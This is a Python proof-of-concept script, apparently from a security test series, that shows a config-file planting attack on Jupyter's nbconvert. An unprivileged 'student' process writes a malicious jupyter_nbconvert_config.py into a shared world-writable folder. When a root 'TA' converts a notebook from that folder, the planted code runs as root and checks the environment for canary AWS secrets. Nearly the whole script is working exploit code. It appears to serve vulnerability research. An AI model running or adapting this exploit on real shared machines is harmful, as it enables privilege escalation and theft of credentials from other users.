"""a12: a11 for Jupyter's own tools with the course's venv: `jupyter nbconvert` (and jupyter server/lab) read
jupyter_<app>_config.py from the folder they run in. The TA (root) converts her own notebook from a shared writable
folder (sticky 1777 stand-in for /tmp) where a student (uid 65534) left jupyter_nbconvert_config.py."""
import os, subprocess, sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a12"; mine = "/tmp/attack44-root-a12-ta"
subprocess.run(["rm", "-rf", d, mine]); os.makedirs(d); os.chmod(d, 0o1777); os.makedirs(mine, mode=0o700)
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
open({d + '/jupyter_nbconvert_config.py'!r}, 'w').write('''
import os, json
open({d + '/PWNED.json'!r}, 'w').write(json.dumps({{'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ)}}))
''')
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
nb = nbformat.v4.new_notebook(); nb.cells = [nbformat.v4.new_markdown_cell("notes")]
nbformat.write(nb, f"{mine}/notes.ipynb")
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run(["CLONE/.venv/bin/jupyter", "nbconvert", "--to", "html", f"{mine}/notes.ipynb"], cwd=d,
                   env=env, capture_output=True, text=True, timeout=180)
print("rc", r.returncode, r.stderr[-300:])
print("PWNED:", open(f"{d}/PWNED.json").read() if os.path.exists(f"{d}/PWNED.json") else "nothing ran")
